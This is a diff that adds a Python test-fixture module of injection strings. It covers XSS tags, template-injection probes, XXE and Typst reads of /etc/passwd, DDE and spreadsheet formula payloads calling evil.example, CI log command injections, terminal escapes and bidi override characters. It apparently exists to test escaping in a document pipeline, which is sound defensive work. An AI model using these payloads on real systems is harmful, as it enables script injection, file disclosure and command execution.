@@ -1,0 +1,218 @@
+"""Texts that some program somewhere takes for markup, code, a formula or an instruction.
+
+All of ``TEXTS`` are sound text that a record may hold; ``UNSOUND`` no record may hold at all.
+The address ``evil.example`` stands for whatever an attacker would have opened or fetched.
+"""
+
+from collections.abc import Mapping
+from typing import Final
+
+_HTML: Final = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<a href='javascript:alert(1)'>开</a>",
+    "<iframe src=//evil.example></iframe>",
+    "<object data=//evil.example></object>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</td></tr></table><h1>改</h1>",
+    "<!-- 没有完",
+    "--><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<form action=//evil.example><input name=x>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "A&B &nbsp; &copy &#x41;",
+    "<wbr>",
+    "<p",
+)
+_ATTRIBUTES: Final = (
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "x onclick=alert(1) y=",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "` onerror=alert(1) `",
+)
+_SCRIPT: Final = (
+    "</script><script>alert(1)</script>",
+    "</SCRIPT >",
+    "<!--<script>",
+    '";alert(1);//',
+    "';alert(1);//",
+    '"}];alert(1);[{"a":"',
+    "${alert(1)}",
+    "`${alert(1)}`",
+    "\\u003cscript\\u003e",
+    "__proto__",
+    "constructor.prototype",
+    "*/alert(1)/*",
+)
+_TYPST: Final = (
+    '#panic("x")',
+    "#let a = 1; #a",
+    '#read("/etc/passwd")',
+    '#image("/etc/passwd")',
+    '#import "@preview/x:1.0.0": *',
+    '#include "x.typ"',
+    '#eval("1+1")',
+    "#set page(width: 1pt)",
+    "#sys.inputs.json",
+    '";#panic();"',
+    "]) #panic() ([",
+    '\\");#panic();("',
+    "$x^2$ @参照 <标签>",
+    "= 一级标题",
+    "*粗* _斜_ `码` ~ // 注 /* 释 */",
+    "https://evil.example/a//b",
+    "\\u{41} \\n \\",
+)
+_WORD: Final = (
+    "</w:t></w:r><w:r><w:t>改</w:t></w:r>",
+    '<w:fldSimple w:instr="DDEAUTO"/>',
+    "]]><w:p/>",
+    '<?xml version="1.0"?>',
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+    "&e; &amp;e;",
+    '{ HYPERLINK "http://evil.example" }',
+    "{r x}{{p x}}",
+)
+_JINJA: Final = (
+    "{{ 7*7 }}",
+    "{% if x %}",
+    "{% for i in range(9) %}x{% endfor %}",
+    "{# 注 #}",
+    "{{ edition.scheme }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{{ cycler.__init__.__globals__ }}",
+    "{%p if x %}{{r x }}",
+    "{{ x|safe }}",
+    "{title} {0} {} %s %(x)s",
+)
+_FORMULAS: Final = (
+    "=1+1",
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("http://evil.example","开")',
+    '=WEBSERVICE("http://evil.example")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "'=1+1",
+    "{=1+1}",
+    "％=1+1",
+    "＝1+1",
+    "=1+1;=1+1",
+    "|=1+1",
+)
+_CSV: Final = (
+    '甲","乙',
+    "甲,乙;丙",
+    '"',
+    '""甲""',
+    "甲\n=1+1",
+    "甲,\n乙",
+)
+_TERMINAL: Final = (
+    "[bold red]甲[/bold red]",
+    "[link=http://evil.example]甲[/link]",
+    "[/]",
+    "[[甲]]",
+    ":smile: :warning:",
+    "\\x1b[31m甲",
+    "\\033]0;甲\\a",
+    "^[[2J",
+    "%1b[31m",
+)
+_LOGS: Final = (
+    "::error::甲",
+    "::set-output name=a::b",
+    "::add-mask::甲",
+    "甲\n::error file=a::乙",
+    "甲\n  ::stop-commands::乙",
+    "##[error]甲",
+    "##[command]甲",
+    "###[group]甲",
+    "##vso[task.setvariable variable=a]b",
+    "##teamcity[message text='甲']",
+    "甲%0A::error::乙",
+    "section_start:1:甲",
+)
+_MARKDOWN: Final = (
+    "[甲](javascript:alert(1))",
+    "![甲](http://evil.example/x.png)",
+    "# 标题",
+    "- 项",
+    "1. 项",
+    "> 引",
+    "*甲* **乙** _丙_ ~~丁~~ `戊`",
+    "```",
+    "| 甲 | 乙 |",
+    "甲|乙",
+    "---",
+    "<http://evil.example>",
+    "[甲]: http://evil.example",
+    "[^1] 甲",
+    "甲\\",
+    "@user #1 :tada:",
+    "甲\\\n乙",
+)
+
+TEXTS: Final = tuple(
+    dict.fromkeys(
+        (
+            *_HTML,
+            *_ATTRIBUTES,
+            *_SCRIPT,
+            *_TYPST,
+            *_WORD,
+            *_JINJA,
+            *_FORMULAS,
+            *_CSV,
+            *_TERMINAL,
+            *_LOGS,
+            *_MARKDOWN,
+        )
+    )
+)
+
+#: What acts on a terminal, turns reading order, hides, or cannot stand in a document at all.
+UNSOUND: Final[Mapping[str, str]] = {
+    "null": "甲\0乙",
+    "bell": "甲\a乙",
+    "backspace": "甲\b\b乙",
+    "carriage return inside": "甲\r乙",
+    "escape": "\x1b[2J",
+    "window title": "\x1b]0;甲\x07",
+    "terminal link": "\x1b]8;;http://evil.example\x1b\\甲\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;eA==\x07",
+    "one-byte escape": "\x9b31m",
+    "delete": "甲\x7f",
+    "next line": "甲\x85::error::乙",
+    "line separator": "甲\u2028乙",
+    "paragraph separator": "甲\u2029乙",
+    "right-to-left override": "甲\u202etxt.exe",
+    "left-to-right override": "\u202d甲",
+    "right-to-left isolate": "\u2067甲\u2069",
+    "right-to-left mark": "甲\u200f",
+    "zero-width space": "甲\u200b乙",
+    "zero-width joiner": "甲\u200d乙",
+    "word joiner": "甲\u2060乙",
+    "byte-order mark inside": "甲\ufeff乙",
+    "soft hyphen": "甲\u00ad乙",
+    "tag letters": "甲\U000e0041",
+    "private use": "甲\ue000",
+    "noncharacter": "甲\ufffe",
+    "replacement character": "甲\ufffd",
+}
